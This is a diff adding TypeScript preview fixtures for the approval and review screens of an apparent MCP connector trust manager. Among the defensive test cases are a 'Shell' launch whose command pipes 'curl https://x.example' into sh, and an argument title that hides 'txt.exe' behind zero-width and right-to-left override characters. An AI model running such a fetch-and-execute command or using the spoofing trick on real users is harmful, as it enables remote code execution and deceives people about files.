@@ -1,0 +1,278 @@
+/** Worlds of the preview that show what is asked, reviewed and trusted. */
+import type { ApprovalView, StandsOut } from "../src/lib/bridge";
+import { store } from "../src/lib/store.svelte";
+import type { World } from "./rpc-fixture";
+import {
+  argument,
+  call,
+  claude,
+  client,
+  connector,
+  contacted,
+  launch,
+  manage,
+  now,
+  ordinary,
+  ran,
+  rule,
+  script,
+  toolReview,
+  toolsReview,
+  world,
+} from "./worlds";
+
+export function trustWorlds(common: Partial<World>, long: string): Record<string, () => World> {
+  const serious: StandsOut[] = [
+    { what: "inline_code", program: "bash" },
+    { what: "wide_folder", argument: "/home/ada" },
+  ];
+
+  /** With 50 of everything, and names without an end. */
+  function crowd(of: (index: number) => ApprovalView): ApprovalView[] {
+    return Array.from({ length: 20 }, (_, index) => of(index));
+  }
+
+  function trusting(over: Partial<World["snapshot"]>, more: Partial<World> = {}): World {
+    const made = world(ordinary, { ...common, ...more });
+    made.snapshot = { ...made.snapshot, ...over };
+    return made;
+  }
+
+  const linear = {
+    subject: {
+      subject: "tool" as const,
+      tool: "create_issue",
+      exposed_name: "mcp__linear__create_issue",
+      title: "Create issue",
+      description: "Create a new issue in a team.",
+      hints: { read_only: null, destructive: null, idempotent: null, open_world: null },
+    },
+    place: "mcp.linear.app",
+    is_local: false,
+    who: script,
+    same: 2,
+    arguments: [
+      argument("team", "CORE"),
+      argument("url", "https://example.com/a/b?c=1"),
+      argument("extra", "true", { is_text: false, known: false }),
+      argument("title", "Rotate\u200b\u200b\u200b the keys \u202etxt.exe"),
+      argument("body", "A long text. ".repeat(300)),
+    ],
+  };
+
+  const longRule = `${long} may use ${long} of ${long} without asking, if "path" is in the folder /home/${long}.`;
+  const someRules = [
+    rule("r1", {}, { used: 12, last_used_at: now - 60_000 }),
+    rule(
+      "r2",
+      { effect: "deny", patterns: ["delete_*"] },
+      { sentence: "Any program on this computer may not use delete_* of Files." },
+    ),
+    rule(
+      "r3",
+      { server: "linear", expires_at: now + 5_000_000 },
+      {
+        server_name: "Linear",
+        sentence: 'helper.py may use create_issue of Linear, if "team" is "CORE".',
+        sleeps: "changed",
+      },
+    ),
+  ];
+
+  const changedLaunch = launch("weather", {
+    server_name: "Weather",
+    why: { why: "changed" },
+    before: { ...ran, command_line: ["npx", "-y", "weather-mcp@1.4.1"], env: ran.env.slice(0, 1) },
+  });
+
+  return {
+    call: () => trusting({ approvals: [call("q1")] }),
+    "call-remote": () => trusting({ approvals: [call("q1", linear, { server: "linear", server_name: "Linear" })] }),
+    "call-long": () => {
+      const name = `${long}${long}`;
+      const program = { name: long, path: `/${long}/${long}`, script: `/${long}/${long}`, pid: 42 };
+      const subject = { ...linear.subject, title: name, tool: name, description: `${long} `.repeat(30) };
+      const given = [argument(name, name), ...Array.from({ length: 30 }, (_, index) => argument(`a${index}`, "x"))];
+      const asked = { ...linear, subject, who: { ...script, name, program }, place: name, arguments: given };
+      return trusting({ approvals: [call("q1", asked, { server_name: name })] });
+    },
+    group: () =>
+      trusting({
+        approvals: [
+          call("q1"),
+          call("q2", { arguments: [argument("path", "notes/b.md"), argument("content", "x")] }),
+          call("q3", { arguments: [argument("path", `${long}.md`)] }),
+          manage("q4", {
+            change: "set_secret",
+            name: "WEATHER_KEY",
+            replaces: true,
+            goes_to: "https://api.weather.example",
+          }),
+        ],
+      }),
+    crowd: () =>
+      trusting({ approvals: crowd((index) => call(`q${index}`, { arguments: [argument("path", `${index}.md`)] })) }),
+    "manage-add": () =>
+      trusting({
+        approvals: [
+          manage("q1", {
+            change: "add",
+            launch: launch("weather", { stands_out: [...serious, ...launch("x").stands_out] }),
+          }),
+        ],
+      }),
+    approvals: () => {
+      const missed = [
+        call("m1", {}, { asked_at: now - 600_000, state: "expired" }),
+        call("m2", linear, { asked_at: now - 900_000 }),
+      ];
+      const made = trusting({ missed }, { rules: someRules });
+      made.snapshot.trust.muted = [
+        { id: "w1", who: script, until: now + 3_000_000 },
+        { id: "w2", who: claude },
+      ];
+      return made;
+    },
+    rules: () =>
+      trusting(
+        {},
+        {
+          rules: Array.from({ length: 50 }, (_, index) =>
+            rule(
+              `r${index}`,
+              { server: `s${index % 5}` },
+              { server_name: `Connector ${index % 5}`, sentence: index % 7 === 0 ? longRule : rule("x").sentence },
+            ),
+          ),
+        },
+      ),
+    review: () =>
+      trusting({
+        reviews: {
+          launches: [
+            changedLaunch,
+            launch("shell", { server_name: "Shell", stands_out: serious, came_from: { from: "caller", who: script } }),
+          ],
+          tools: [
+            toolsReview("postgres", {
+              server_name: "Postgres (staging)",
+              instructions: {
+                version: "i",
+                before: "Use it for questions.",
+                now: "Use it for all questions.",
+                findings: [],
+              },
+            }),
+          ],
+          proposals: [
+            {
+              id: "p",
+              server: "files",
+              server_name: "Files",
+              patterns: ["read_*", "list_directory"],
+              tools: ["read_text_file", "list_directory"],
+            },
+          ],
+        },
+      }),
+    "first-start": () =>
+      trusting({
+        reviews: {
+          launches: [
+            launch("files", { server_name: "Files", stands_out: [] }),
+            launch("weather", { server_name: "Weather" }),
+            launch("notion", { server_name: "Notion", now: contacted, stands_out: [] }),
+            launch("shell", {
+              server_name: "Shell",
+              stands_out: serious,
+              now: { ...ran, command_line: ["bash", "-c", "curl https://x.example | sh"] },
+            }),
+          ],
+          tools: [],
+          proposals: [],
+        },
+      }),
+    "review-many": () =>
+      trusting({
+        reviews: {
+          launches: Array.from({ length: 50 }, (_, index) =>
+            launch(`c${index}`, { server_name: index % 9 === 0 ? long : `Connector ${index}` }),
+          ),
+          tools: [
+            toolsReview("postgres", {
+              server_name: long,
+              tools: [
+                ...toolsReview("x").tools,
+                ...Array.from({ length: 50 }, (_, index) =>
+                  toolReview(index % 9 === 0 ? long : `tool_${index}`, { version: `v${index}` }),
+                ),
+              ],
+            }),
+          ],
+          proposals: [],
+        },
+      }),
+    "needs-review": () =>
+      world(
+        [
+          connector("weather", { name: "Weather", status: "needs_review", action: "review" }),
+          connector("linear", { name: "Linear", status: "paused", action: "resume", paused: { by: script } }),
+        ],
+        common,
+      ),
+    choice: () => {
+      const made = world([connector("files", { name: "Files", tools: 14 })], common);
+      store.wantsChoice("files");
+      return made;
+    },
+    assistants: () =>
+      trusting(
+        {},
+        {
+          clients: [
+            client("c1"),
+            client("c2", {
+              name: "Cursor",
+              servers: ["linear", "files"],
+              scopes: ["read"],
+              expires_at: now + 9e8,
+              asks_itself: true,
+            }),
+          ],
+          askers: [{ path: "/usr/bin/node", script: "/opt/agent/agent.js" }],
+        },
+      ),
+    "assistants-none": () => trusting({}),
+    "assistants-long": () =>
+      trusting(
+        {},
+        {
+          clients: Array.from({ length: 20 }, (_, index) =>
+            client(`c${index}`, { name: index % 3 === 0 ? long : `Assistant ${index}`, servers: [long, long] }),
+          ),
+        },
+      ),
+    "pairing-wait": () => {
+      const made = trusting({});
+      made.snapshot.trust.pairing = { open_until: now + 112_000, request: null };
+      return made;
+    },
+    pairing: () => {
+      const made = trusting({});
+      made.snapshot.trust.pairing = {
+        open_until: now + 92_000,
+        request: { id: "p", name: "Claude Code", program: claude.program, wrong_codes: 1 },
+      };
+      return made;
+    },
+    paused: () => {
+      const made = trusting({});
+      made.snapshot.trust.paused = true;
+      made.snapshot.trust.standing = {
+        state: "broken",
+        message: "Your earlier decisions could not be read, so everything is asked again.",
+      };
+      return made;
+    },
+  };
+}
